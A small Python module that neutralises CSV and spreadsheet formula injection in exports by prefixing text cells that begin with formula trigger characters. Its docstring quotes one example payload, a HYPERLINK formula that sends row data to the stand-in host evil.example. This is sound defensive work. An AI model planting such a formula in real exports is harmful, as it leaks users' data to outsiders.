"""Spreadsheet cells that must stay text (issue 25 item 4; OWASP "CSV injection").

Excel and LibreOffice execute a cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return: a
driver registered as `=HYPERLINK("http://evil.example/?leak="&B2,"Clique")` would send the row to a stranger when
the office opens the export. Every export writes such text as text: in XLSX as a string cell (never a formula)
with Excel's quote prefix, in CSV prefixed with `'` as OWASP advises. Numbers and dates are not text and are
never prefixed (a negative amount stays a number). Pure Python: no Qt, no database, no openpyxl.
"""
from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """True for a text a spreadsheet would read as a formula (or a command, DDE)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_text(value: str) -> str:
    """The text as a CSV cell: `'` before a text a spreadsheet would execute."""
    return "'" + value if looks_like_formula(value) else value
